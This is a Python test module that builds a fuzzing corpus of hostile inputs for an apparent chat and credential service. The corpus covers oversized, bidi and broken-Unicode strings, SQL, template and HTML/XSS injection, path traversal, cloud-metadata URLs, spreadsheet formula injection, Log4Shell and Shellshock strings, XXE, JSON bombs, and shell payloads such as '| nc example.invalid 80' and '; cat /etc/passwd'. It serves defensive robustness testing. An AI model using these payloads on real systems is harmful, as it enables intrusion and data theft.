"""A corpus of hostile inputs: what a careless client, a curious person or an attacker sends.

Every entry is text (what a chat message, a form field or a JSON string can carry);
``BODIES`` adds whole request bodies that are hostile as bodies (JSON bombs, broken
UTF-8, nesting). The corpus is built from families, each a list of its own, so a
failure names what kind of input it was.
"""

from __future__ import annotations

from typing import Final

LONG: Final = [
    "a" * 201,
    "a" * 4096,
    "a" * 10_000,
    "å" * 5000,
    "🙂" * 3000,
    "word " * 2000,
    "\n" * 5000,
    " " * 9000,
    "x" * 100_000,
    "ا" * 8000,
]

CONTROL: Final = [
    "\x00",
    "abc\x00def",
    "\x00" * 50,
    "\x07\x08\x1b[31mred\x1b[0m",
    "\r\n\r\nHTTP/1.1 200 OK",
    "line\rover",
    "\t\t\t",
    "\x7f\x80\x9f",
    "\x1b]0;title\x07",
    "\u0085next line",
    "\u2028\u2029",
    "\ufeffBOM first",
    "\ufffe\uffff",
    "\U0010ffff",
    "\u00ad\u00ad\u00ad",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 50,
    "Z\u0351\u0352\u0353\u0354\u0355\u0356" * 200,
]

BIDI: Final = [
    "\u202eevil.exe\u202dtxt",
    "\u202a\u202b\u202c\u202d\u202e",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f",
    "\u200b\u200c\u200d\u2060",
    "abc\u202edef",
    "مرحبا \u202e hello",
    "\u2067Maria\u2069 Berg",
    "\u061c\u061c",
    "\u202e" * 500,
]

SQL: Final = [
    "' OR '1'='1",
    "'; DROP TABLE learners; --",
    '"; DROP TABLE conversations; --',
    "1; DELETE FROM endorsements",
    "admin'--",
    "' UNION SELECT token_hash FROM endorsement_links --",
    "1' AND SLEEP(5)#",
    "'; SELECT pg_sleep(5); --",
    "\\'; DROP TABLE x; --",
    "%' OR 1=1 --",
    "1 OR 1=1",
    "') OR ('a'='a",
    "' || (SELECT sqlite_version()) || '",
    "$$; DROP TABLE learners; $$",
    "%00' OR 1=1 --",
]

TEMPLATE: Final = [
    "{{7*7}}",
    "{{ config }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{name}",
    "{count}",
    "{n}",
    "{}",
    "{0.__class__.__mro__}",
    "{email.__class__}",
    "%s%s%s%s%s",
    "%(name)s",
    "%n%n%n",
    "{{request.application.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% include '/etc/passwd' %}",
    "[[${7*7}]]",
]

HTML: Final = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//example.invalid>",
    "<body onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<meta http-equiv="refresh" content="0;url=//example.invalid">',
    "<b>bold</b> <i>italic</i>",
    "*bold* _italic_ `code` [link](http://example.invalid)",
]

NUMBERS: Final = [
    "0",
    "-1",
    "-0",
    "99999999999999999999999999999999",
    "1e309",
    "-1e309",
    "NaN",
    "Infinity",
    "0x7fffffff",
    "2147483648",
    "9223372036854775808",
    "-9223372036854775809",
    "1" * 5000,
    "1.7976931348623157e+308",
    "٣٤٥",
    "１２３",
    "²³",
    "Ⅻ",
    "00000000000000000001",
    "3.14159265358979323846264338327950288419716939937510",
]

BROKEN_UTF8: Final = [
    "\ud800",
    "\udfff",
    "abc\ud83d",
    "\ud83dabc",
    "\udc80\udc81",
    "\ud800\ud800",
    "a\udcffb",
]

PATHS_AND_URLS: Final = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "http://127.0.0.1:22/",
    "http://169.254.169.254/latest/meta-data/",
    "//example.invalid",
    "%2e%2e%2f%2e%2e%2f",
    "....//....//",
    "C:\\con\\con",
]

CHAT_SHAPED: Final = [
    "/",
    "//",
    "/start@",
    "/start@somebot extra words",
    "/" + "a" * 5000,
    "/delete",
    "/mydata",
    "/START",
    "/ start",
    "/help " + "x" * 1000,
    "0|nav:back",
    "999999|nav:help",
    "-1|menu",
    "|",
    "||||",
    "1|" + "x" * 5000,
    "nav:pause",
    "\x00|\x00",
    "1|e99999999999999999999",
    "1|e-1",
]

FORMAT_AND_DATA: Final = [
    "null",
    "undefined",
    "None",
    "true",
    "[]",
    "{}",
    '{"__proto__": {"admin": true}}',
    '{"constructor": {"prototype": {}}}',
    "[" * 1000,
    "{" * 1000,
    '"' * 1000,
    "\\" * 1000,
    "\\u0000",
    "\\ud800",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "maria@hotel.example\r\nBcc: everyone@example.invalid",
    "maria@" + "a" * 300 + ".example",
]

EMOJI_AND_SCRIPTS: Final = [
    "👨‍👩‍👧‍👦" * 100,
    "🏳️‍🌈",
    "🇸🇪🇸🇾🇮🇶",
    "\U0001f9d1\u200d\U0001f3eb",
    "ﷺ" * 100,
    "𒐫" * 100,
    "ǅ",
    "İ",
    "ß" * 100,
    "𝕳𝖔𝖙𝖊𝖑",
    "ｈｏｔｅｌ",
    "Ⓗⓞⓣⓔⓛ",
    "\u0e01\u0e34\u0e34\u0e34\u0e34\u0e34",
    "ஸ்ரீ",
    "漢字かなカナ",
    "한국어",
]

LOG_AND_HEADERS: Final = [
    "ok\nERROR fake log line",
    "ok\r\nSet-Cookie: meritkompis_chat=stolen",
    "%0d%0aSet-Cookie:%20x=y",
    "\x1b[2J\x1b[H",
    "${jndi:ldap://example.invalid/a}",
    "() { :; }; echo vulnerable",
    "`id`",
    "$(id)",
    "; cat /etc/passwd",
    "| nc example.invalid 80",
    "Bearer mk_" + "A" * 40,
    "MERITKOMPIS_CREDENTIAL_KEK=abc",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "%u0000",
    "\\x00",
    "a@b",
    "+46" + "7" * 40,
    "mailto:a@b?subject=x&body=y",
    "sms:+46701234567?body=hi",
    "tel:+46701234567",
]

FAMILIES: Final = {
    "long": LONG,
    "control": CONTROL,
    "bidi": BIDI,
    "sql": SQL,
    "template": TEMPLATE,
    "html": HTML,
    "numbers": NUMBERS,
    "broken_utf8": BROKEN_UTF8,
    "paths_and_urls": PATHS_AND_URLS,
    "chat_shaped": CHAT_SHAPED,
    "format_and_data": FORMAT_AND_DATA,
    "emoji_and_scripts": EMOJI_AND_SCRIPTS,
    "log_and_headers": LOG_AND_HEADERS,
}

# (family, text): every hostile text, named by its family.
CORPUS: Final = [(family, text) for family, texts in FAMILIES.items() for text in texts]


def label(family: str, text: str) -> str:
    """A short test id: the family and the start of the text, printable."""
    shown = text[:24].encode("unicode_escape").decode("ascii")
    return f"{family}:{shown}"


def json_safe(text: str) -> str:
    """What a JSON client can send of ``text``: lone surrogates become U+FFFD."""
    return text.encode("utf-8", "replace").decode("utf-8")


def nested(depth: int, opening: str = "[", closing: str = "]") -> str:
    return opening * depth + closing * depth


# Whole bodies, as bytes: hostile as bodies, not only in their strings.
BODIES: Final = [
    b"",
    b"{",
    b"null",
    b"[]",
    b'"just a string"',
    b"\xff\xfe\xfd",
    b'{"a": "\xc3\x28"}',
    b'{"a": "\xed\xa0\x80"}',
    b"\x00" * 1000,
    nested(100_000).encode(),
    nested(5_000).encode(),
    ('{"a":' * 5000 + "1" + "}" * 5000).encode(),
    b'{"credentialSubject": ' + nested(20_000).encode() + b"}",
    b"[" + b"1," * 100_000 + b"1]",
    b'{"a": 1e999999}',
    b'{"a": ' + b"9" * 100_000 + b"}",
    b'{"a": NaN, "b": Infinity}',
    b'{"a": 1, "a": 2}',
    b'{"verifiableCredential": {"@context": ["https://www.w3.org/ns/credentials/v2"]}}',
    b'{"verifiableCredential": "\\ud800"}',
    ('{"x": "' + "a" * 300_000 + '"}').encode(),
]
